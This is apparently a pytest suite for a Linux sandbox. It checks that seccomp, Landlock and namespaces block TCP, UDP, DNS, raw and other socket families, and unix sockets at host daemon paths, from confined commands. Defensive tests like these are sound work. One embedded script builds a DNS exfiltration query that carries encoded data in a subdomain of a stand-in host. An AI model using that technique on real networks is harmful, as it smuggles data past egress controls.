"""With the network off (the default), nothing leaves the sandbox through a socket.

The listeners are the test's own: TCP on 127.0.0.1, 127.0.0.2 and ::1, a UDP "resolver"
on 127.0.0.1 that answers every query, unix sockets on an abstract name and at paths
outside the workspace (a host daemon's). Unconfined, each is reached; confined, seccomp
refuses every socket family but AF_UNIX (EPERM), and unix sockets outside meet the
sandbox's own network namespace (abstract names), Landlock's scope, or a covered directory.
"""

from __future__ import annotations

import errno
import socket
import struct
import tempfile
import threading
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from harness import Box, baseline, hidden, line, only_namespaces, reached_kernel, refused

pytestmark = [pytest.mark.linux, pytest.mark.native, pytest.mark.landlock, pytest.mark.seccomp]

EPERM = refused(errno.EPERM)


@pytest.fixture
def tcp_listener(request: pytest.FixtureRequest) -> Iterator[tuple[str, int]]:
    """A TCP listener on the address the test asks for (the kernel completes connects)."""
    host = request.param
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as srv:
        srv.bind((host, 0))
        srv.listen(16)
        yield host, srv.getsockname()[1]


@pytest.mark.parametrize("tcp_listener", ["127.0.0.1", "127.0.0.2", "::1"], indirect=True)
def test_tcp_connect_to_a_local_listener_is_refused(box: Box, tcp_listener: tuple[str, int]) -> None:
    host, port = tcp_listener
    before, after = box.attack(box.ts("connect-tcp", host, str(port)))
    baseline(line(before) == "ok", f"{host}:{port} accepts connections", before)
    assert (after.returncode, line(after)) == (1, EPERM)
    assert "socket: Operation not permitted" in str(after.stderr)


def test_udp_datagram_to_a_local_listener_is_refused(box: Box) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as srv:
        srv.bind(("127.0.0.1", 0))
        srv.settimeout(2)
        port = srv.getsockname()[1]
        before = box.unconfined(box.ts("udp-send", "127.0.0.1", str(port)))
        baseline(line(before) == "ok" and srv.recv(16) == b"x", "the datagram arrives", before)
        after = box.confined(box.ts("udp-send", "127.0.0.1", str(port)))
        assert (after.returncode, line(after)) == (1, EPERM)
        srv.settimeout(0.2)
        with pytest.raises(TimeoutError):
            srv.recv(16)


# A DNS query for a name that carries data out (the exfiltration channel of choice when
# only a resolver is reachable), sent the way a stub resolver sends it: one UDP datagram.
DNS_CLIENT = """\
import socket, struct, sys
name = b"".join(bytes([len(p)]) + p for p in b"c2VjcmV0.exfil.example".split(b".")) + b"\\0"
query = struct.pack(">HHHHHH", 0x5BD, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(query, ("127.0.0.1", int(sys.argv[1])))
print(socket.inet_ntoa(s.recv(512)[-4:]))
"""


@pytest.fixture
def resolver() -> Iterator[int]:
    """A DNS server on 127.0.0.1 that answers every A query with 192.0.2.7; its port."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind(("127.0.0.1", 0))
    srv.settimeout(0.1)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                query, peer = srv.recvfrom(512)
            except TimeoutError:
                continue
            ident, question = query[:2], query[12:]
            answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton("192.0.2.7")
            srv.sendto(ident + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + question + answer, peer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield srv.getsockname()[1]
    finally:
        stop.set()
        thread.join()
        srv.close()


def test_dns_lookup_through_a_local_resolver_is_refused(box: Box, resolver: int) -> None:
    command = ["python3", "-c", DNS_CLIENT, str(resolver)]
    before, after = box.attack(command)
    baseline(before.stdout.strip() == "192.0.2.7", "the resolver answers", before)
    assert after.returncode == 1 and str(after.stdout) == ""
    assert "PermissionError: [Errno 1] Operation not permitted" in str(after.stderr)


def test_name_resolution_finds_no_resolver(box: Box) -> None:
    # getent asks the system's resolver for a name no hosts file holds: confined, its
    # socket is refused and the lookup fails at once (exit 2: not found), whatever the host's
    # network. (Unconfined the answer depends on the host's DNS, so there is no contrast to
    # draw; test_dns_lookup_through_a_local_resolver_is_refused draws it with a resolver of
    # the test's own.)
    after = box.confined(["getent", "hosts", f"sbx-{uuid.uuid4().hex[:12]}.example.com"])
    assert after.returncode == 2 and str(after.stdout) == ""
    assert after.duration < 5


# (family, type, marks): socket(2) of each family; the filter refuses all but AF_UNIX.
FAMILIES = [
    pytest.param("16", "3", id="netlink"),  # AF_NETLINK, SOCK_RAW: the host's routing and firewall
    pytest.param("17", "3", marks=pytest.mark.root, id="packet"),  # AF_PACKET: raw frames
    pytest.param("2", "3", marks=pytest.mark.root, id="inet-raw"),  # AF_INET, SOCK_RAW
    pytest.param("2", "2", id="inet-udp"),
    pytest.param("10", "2", id="inet6-udp"),
    pytest.param("40", "1", id="vsock"),  # AF_VSOCK: the hypervisor
    pytest.param("38", "5", id="alg"),  # AF_ALG: the kernel's crypto API
]


@pytest.mark.parametrize(("family", "kind"), FAMILIES)
def test_socket_of_a_network_family_is_refused(box: Box, family: str, kind: str) -> None:
    before, after = box.attack(box.ts("socket", family, kind))
    baseline(reached_kernel(before, errno.EPERM), f"socket({family}, {kind}) reaches the kernel", before)
    assert (after.returncode, line(after)) == (1, EPERM)


# ---------------------------------------------------------------------------------------
# Unix sockets


@pytest.fixture
def unix_listener() -> Iterator[Callable[[str], str]]:
    """Binds a listening AF_UNIX socket at a name or path the test gives; closes them all."""
    socks: list[socket.socket] = []

    def listen(address: str) -> str:
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        srv.bind(address)
        srv.listen(4)
        socks.append(srv)
        return address

    yield listen
    for srv in socks:
        srv.close()


@pytest.mark.userns
def test_abstract_unix_socket_outside_is_unreachable(box: Box, unix_listener: Callable[[str], str]) -> None:
    name = f"sbx-test-{uuid.uuid4().hex}"
    unix_listener("\0" + name)
    before, after = box.attack(box.ts("abstract-connect", name))
    baseline(line(before) == "ok", "the abstract socket accepts", before)
    # Abstract names live in a network namespace: in the sandbox's own, the name is unknown.
    # Without one, Landlock's scope refuses a peer outside the sandbox.
    expected = errno.ECONNREFUSED if "network-namespace" in after.enforced else errno.EPERM
    assert (after.returncode, line(after)) == (1, refused(expected))


@only_namespaces
@pytest.mark.userns
def test_unix_socket_under_tmp_is_unreachable(box: Box, unix_listener: Callable[[str], str], tmp_path: Path) -> None:
    path = unix_listener(str(tmp_path / "agent.sock"))
    before, after = box.attack(box.ts("unix-connect", path))
    baseline(line(before) == "ok", "the socket accepts", before)
    assert hidden(after)
    assert (after.returncode, line(after)) == (1, refused(errno.ENOENT))


@only_namespaces
@pytest.mark.root
@pytest.mark.userns
def test_unix_socket_under_run_is_unreachable(box: Box, unix_listener: Callable[[str], str]) -> None:
    # Where host daemons keep theirs (docker.sock, dbus, systemd).
    run = Path(tempfile.mkdtemp(prefix="sbx-system-test-", dir="/run"))
    try:
        path = unix_listener(str(run / "daemon.sock"))
        before, after = box.attack(box.ts("unix-connect", path))
        baseline(line(before) == "ok", "the socket accepts", before)
        assert hidden(after)
        assert (after.returncode, line(after)) == (1, refused(errno.ENOENT))
    finally:
        for entry in run.iterdir():
            entry.unlink()
        run.rmdir()


@pytest.mark.userns
def test_unix_socket_of_a_daemon_outside_the_workspace_is_unreachable(
    box: Box, unix_listener: Callable[[str], str]
) -> None:
    path = unix_listener(str(box.outside / "daemon.sock"))
    before, after = box.attack(box.ts("unix-connect", path))
    baseline(line(before) == "ok", "the socket accepts", before)
    assert after.returncode == 1
    assert line(after) in (refused(errno.EACCES), refused(errno.EPERM), refused(errno.ENOENT))


def test_unix_socketpair_still_works(box: Box) -> None:
    # What the sandbox keeps: local sockets between the command's own processes.
    program = "import socket; a, b = socket.socketpair(); a.send(b'hi'); print(b.recv(2))"
    after = box.confined(["python3", "-c", program])
    assert (after.returncode, str(after.stdout)) == (0, "b'hi'\n")

